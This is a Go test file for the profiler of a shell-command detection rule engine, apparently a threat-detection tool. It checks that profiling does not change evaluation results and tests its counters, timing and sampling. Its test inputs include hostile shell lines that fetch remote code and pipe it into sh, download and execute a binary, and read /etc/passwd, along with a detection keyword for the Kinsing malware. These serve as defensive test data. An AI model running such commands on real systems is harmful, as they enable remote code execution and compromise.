package engine

import (
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"ttpctl/internal/event"
	"ttpctl/internal/rounds"
)

// Whoever counts what evaluations cost changes nothing of what comes of them: tags,
// steps of sequences and counts are those of an evaluation that nobody watches.
func TestProfileChangesNothing(t *testing.T) {
	rs := mustCompile(t, fuzzRules())
	lines := append(benchCommands, "id", "ls", "cat /etc/passwd", "wget http://192.0.2.1/x | sh", "wget -O x http://192.0.2.1/x; chmod +x x; ./x", "x=$((1+2)); id",
		strings.Repeat("sudo ", 30)+"id")
	for _, every := range []int{1, 7} {
		plain, watched := NewSnapshot(rs, nil, testNow), NewSnapshot(rs, nil, testNow)
		profiler := NewProfiler(rs, every)
		one, two := NewScratch(), NewScratch()
		two.Profile(profiler.Profile())
		random := rand.New(rand.NewPCG(1, 2))
		tags := 0
		for range rounds.Of(t, 125, 1000) {
			ev := commandEvent(lines[random.IntN(len(lines))])
			want := plain.Evaluate(nil, ev, testNow, one)
			got := watched.Evaluate(nil, ev, testNow, two)
			tags += len(got)
			if d := rounds.Diff(want, got); d != "" {
				t.Fatalf("tags of %v differ (-plain +watched):\n%s", ev, d)
			}
			if d := rounds.Diff(allSteps(one), allSteps(two)); d != "" {
				t.Fatalf("steps on %v differ (-plain +watched):\n%s", ev, d)
			}
		}
		if one.CutShort != two.CutShort || one.BelowFloor != two.BelowFloor || one.PanicCount != two.PanicCount {
			t.Errorf("counts differ: %d %d %d, want %d %d %d", two.CutShort, two.BelowFloor, two.PanicCount, one.CutShort, one.BelowFloor, one.PanicCount)
		}
		if tags == 0 {
			t.Error("no event had a tag: this test saw nothing")
		}
	}
}

// The counts of a profile hang together, and an event of each way is in them.
func TestProfileCounts(t *testing.T) {
	rs := compileRule(t, "command", "  {pattern: 'wget\\s+\\d'}")
	snap, profiler, sc := NewSnapshot(rs, nil, testNow), NewProfiler(rs, 1), NewScratch()
	sc.Profile(profiler.Profile())
	tags := 0
	for _, text := range []string{"ls", "wget 1", "wget 1", "wget 1", "wget x", "wget 2 &"} {
		tags += len(snap.Evaluate(nil, commandEvent(text), testNow, sc))
	}
	counts, rules := profiler.Sum()
	if counts.Events != 6 || counts.Recalled != 2 || counts.Remembered != 6 || counts.Timed != 6 {
		t.Errorf("counts %+v, want 6 events, all remembered and timed, 2 recalled: what came is known", counts)
	}
	c := rules[0]
	if c.Checked != 4 || c.Admitted != 2 || c.Matched != 2 || c.Recalled != 2 || c.Tags != 2 || tags != 4 || c.Laps.Count() != 1 {
		t.Errorf("cost %+v of %d tags, want 4 checked, 2 admitted, all but the first timed, 2 matched with 2 tags, 2 recalled; 4 tags", c, tags)
	}
	if c.Total() < 0 || counts.Reads < counts.Timed || profiler.ClockRead() <= 0 {
		t.Errorf("time %v, %d readings of %v, want none below 0", c.Total(), counts.Reads, profiler.ClockRead())
	}
	other := NewSnapshot(compileRule(t, "command", "  {contains: wget}"), nil, testNow)
	other.Evaluate(nil, commandEvent("wget"), testNow, sc)
	if after, _ := profiler.Sum(); after.Events != counts.Events {
		t.Errorf("%d events after one under another ruleset, want %d", after.Events, counts.Events)
	}
	if (*Profiler)(nil).Profile() != nil {
		t.Error("a profile of no profiler, want none")
	}
}

// A lap during which the processor did other work does not count, and what is long
// as most are does.
func TestLaps(t *testing.T) {
	var l Laps
	if l.Mean() != 0 || l.Count() != 0 {
		t.Errorf("mean %v of %d laps, want nothing of none", l.Mean(), l.Count())
	}
	for range 100 {
		l.add(200)
	}
	l.add(10 * time.Millisecond)
	if l.Mean() != 200 || l.Count() != 101 {
		t.Errorf("mean %v of %d laps, want 200 of 101: one of 10 ms is none of the rule's", l.Mean(), l.Count())
	}
	var long Laps
	long.add(10 * time.Millisecond)
	long.add(20 * time.Millisecond)
	if long.Mean() != 15e6 {
		t.Errorf("mean %v, want 15 ms", long.Mean())
	}
	long.join(&l)
	if long.Count() != 103 {
		t.Errorf("%d laps of both, want 103", long.Count())
	}
}

// Only some events are timed, about as many as was asked for, and of the others the
// clock is not read.
func TestProfileSamples(t *testing.T) {
	rs := compileRule(t, "command", "  {contains: wget}")
	snap, profiler, sc := NewSnapshot(rs, nil, testNow), NewProfiler(rs, 20), NewScratch()
	sc.Profile(profiler.Profile())
	for range 20_000 {
		snap.Evaluate(nil, commandEvent("wget x"), testNow, sc)
	}
	counts, _ := profiler.Sum()
	if counts.Timed < 700 || counts.Timed > 1_300 || counts.Reads > 7*counts.Timed {
		t.Errorf("%d events timed with %d readings, want about 1,000 with a few each", counts.Timed, counts.Reads)
	}
}

// A text that needs bash's grammar is counted, and charged to the rules that it is
// judged by.
func TestProfileCountsGrammar(t *testing.T) {
	rs := compileRule(t, "command", "  {field: simple_command, pattern: '^wget\\s'}")
	snap, profiler, sc := NewSnapshot(rs, nil, testNow), NewProfiler(rs, 1), NewScratch()
	sc.Profile(profiler.Profile())
	for _, text := range []string{"wget x", "coproc { wget x; }", "coproc { ls; }"} {
		snap.Evaluate(nil, commandEvent(text), testNow, sc)
	}
	counts, rules := profiler.Sum()
	if counts.Grammar != 2 || rules[0].Grammar != 1 {
		t.Errorf("%d events needed the grammar, %d of them for the rule, want 2 and 1", counts.Grammar, rules[0].Grammar)
	}
}

func TestDemand(t *testing.T) {
	for _, tt := range []struct {
		match  string
		always int
		weak   string
	}{
		{`  {pattern: '\d+'}`, 1, ""},
		{`  {pattern: 'ls\s'}`, 0, "ls"},
		{`  {contains: kinsing}`, 0, ""},
		{`  {effect: {writes: any}}`, 0, "effect writes"},
		{`  {any_of: [{contains: kinsing}, {contains: -c}]}`, 0, "-c"},
	} {
		d := compileRule(t, "command", tt.match).Rules()[0].Demand()
		if len(d.Always) != tt.always || strings.Join(d.Weak, " ") != tt.weak {
			t.Errorf("Demand of %s = %+v, want %d always, weak %q", tt.match, d, tt.always, tt.weak)
		}
	}
	rule := compileRule(t, "command", "  {pattern: 'wget\\pL{90}'}")
	NewSnapshot(rule, nil, testNow).Evaluate(nil, commandEvent("wget x"), testNow, NewScratch())
	if n := rule.Rules()[0].Demand().Fallbacks; n != 1 {
		t.Errorf("%d fallbacks of a pattern too large for an automaton, want 1", n)
	}
}

// An evaluation that nobody watches allocates as little as ever.
func TestNoProfileCostsNothing(t *testing.T) {
	snap, sc := NewSnapshot(mustCompile(t, generatedRules(25)), nil, testNow), NewScratch()
	var dst []event.Tag
	ev := commandEvent("ls -la")
	snap.Evaluate(dst, ev, testNow, sc)
	if n := testing.AllocsPerRun(100, func() { dst = snap.Evaluate(dst[:0], ev, testNow.Add(time.Second), sc) }); n > 0 {
		t.Errorf("%v allocations, want none", n)
	}
}
